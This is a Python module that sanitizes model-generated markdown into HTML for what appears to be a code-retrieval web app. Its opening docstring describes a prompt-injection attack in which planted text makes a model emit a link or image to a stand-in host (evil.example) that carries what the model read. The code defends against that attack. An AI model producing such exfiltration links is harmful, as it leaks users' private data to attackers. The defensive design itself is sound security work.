"""Markdown to safe HTML. Model output and uploaded text are data: they are rendered with
markdown-it (raw HTML disabled) and then cleaned by nh3, never marked safe as they come.

Links and images are an exfiltration channel: text planted in a pack can make a model write
`[click](https://evil.example/steal?d=<what it read>)` or an image whose URL carries the data,
which the browser fetches by itself. So a link leaving this site is not a link here: its text
is shown with the address after it as code, for the reader to copy if they mean it; an image is
never loaded (its alt text and address are shown). Links within the site (citations, `#L3`)
stay links. No outside host is trusted, not even those the codebase mentions: the codebase is
exactly what an attacker writes."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import nh3
from django.utils.safestring import mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from rag.paths import parse_citation

_md = (
    MarkdownIt("commonmark", {"html": False, "linkify": False})
    .enable("table")
    .enable("strikethrough")
)

RENDERING_VERSION = "2"
"""Bumped when the same text renders differently (2: outside links and images as text), so
HTML stored by an older renderer is rendered anew."""


def is_external(href: str) -> bool:
    """Whether a link leaves this site: a scheme (https:, mailto:), a host (//evil.example,
    which browsers also read into /\\evil.example), anything but a path or a fragment here."""
    href = href.strip()
    if href.startswith(("//", "/\\", "\\")):
        return True
    parts = urlsplit(href)
    return bool(parts.scheme or parts.netloc)


def _link_open(
    self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    href = str(tokens[idx].attrGet("href") or "")
    # Links do not nest, so the close that ends this link is the next link_close rendered.
    env["links"] = [
        *env.get("links", []),
        (href, tokens[idx].markup) if is_external(href) else None,
    ]
    if env["links"][-1] is None:
        return self.renderToken(tokens, idx, options, env)
    return '<span class="external-link">'


def _link_close(
    self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    opened = env.get("links", [None]).pop() if env.get("links") else None
    if opened is None:
        return self.renderToken(tokens, idx, options, env)
    href, markup = opened
    if markup == "autolink":  # <https://…>: its text is its address already
        return "</span>"
    return f'</span> <code class="external-url">{escapeHtml(href)}</code>'


def _image(
    self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    label = f"image: {alt}" if alt else "image"
    return (
        f'<span class="external-image">[{escapeHtml(label)}]</span> '
        f'<code class="external-url">{escapeHtml(src)}</code>'
    )


_md.add_render_rule("link_open", _link_open)
_md.add_render_rule("link_close", _link_close)
_md.add_render_rule("image", _image)

_ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre",
    "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "span",
}  # fmt: skip
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "th": {"align"},
    "td": {"align"},
}


def render_markdown(text: str, *, file_url_prefix: str | None = None) -> str:
    """Render markdown to sanitized HTML. With a prefix, `path:line` citations become links."""
    html = _md.render(text or "", {})
    if file_url_prefix:
        html = _link_citations(html, file_url_prefix)
    # nh3 has removed everything but the allow-listed tags and attributes, so the result is
    # safe to put in a page as it is.
    return mark_safe(  # noqa: S308
        nh3.clean(
            html,
            tags=_ALLOWED_TAGS,
            attributes=_ALLOWED_ATTRIBUTES,
            url_schemes={"http", "https"},
            link_rel="noopener noreferrer",
        )
    )


def render_inline(text: str) -> str:
    """One line of markdown (a step's title) as sanitized inline HTML: `code` and emphasis
    render, and no paragraph or list is made of it ("1. …" stays text)."""
    html = _md.renderInline(text or "", {})
    return mark_safe(  # noqa: S308 (cleaned by nh3 as render_markdown's output is)
        nh3.clean(html, tags=_ALLOWED_TAGS, attributes=_ALLOWED_ATTRIBUTES, url_schemes=set())
    )


def _link_citations(html: str, prefix: str) -> str:
    # Only link inside inline code spans, where citations conventionally appear and where the
    # text is already HTML-escaped by markdown-it.
    def replace_code(match: re.Match[str]) -> str:
        inner = match.group(1)
        cite = parse_citation(inner)
        if cite is None:
            return match.group(0)
        href = f"{prefix}{cite.path}?hl={cite.start}-{cite.end}#L{cite.start}"
        return f'<a href="{href}"><code>{inner}</code></a>'

    return re.sub(r"<code>([^<]{3,300})</code>", replace_code, html)
